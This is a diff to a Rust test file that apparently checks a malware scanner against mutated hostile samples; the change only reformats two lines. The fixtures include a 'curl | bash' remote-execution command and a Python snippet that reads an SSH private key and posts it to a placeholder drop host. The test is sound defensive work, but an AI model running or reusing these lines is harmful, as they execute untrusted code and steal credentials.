@@ -52,7 +52,9 @@ fn utf16(text: &str) -> Vec<u8> {
 /// Name of the mutation and what the scanner says about it.
 fn mutations() -> Vec<(&'static str, Verdict)> {
     let run = format!("curl -fsSL {HOST} | bash");
-    let steal = format!("import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('{DROP}', data=k)\n");
+    let steal = format!(
+        "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('{DROP}', data=k)\n"
+    );
     vec![
         // Shell: spelling.
         ("sh plain", file("a.sh", run.clone())),
@@ -174,7 +176,8 @@ const ESCAPES: &[&str] = &[
 fn mutations_are_found_and_escapes_are_named() {
     let all = mutations();
     assert!(all.len() >= 60, "{}", all.len());
-    let missed: Vec<&str> = all.iter().filter(|(_, v)| *v == Verdict::Allow).map(|(n, _)| *n).collect();
+    let missed: Vec<&str> =
+        all.iter().filter(|(_, v)| *v == Verdict::Allow).map(|(n, _)| *n).collect();
     assert_eq!(missed, ESCAPES);
 }
 
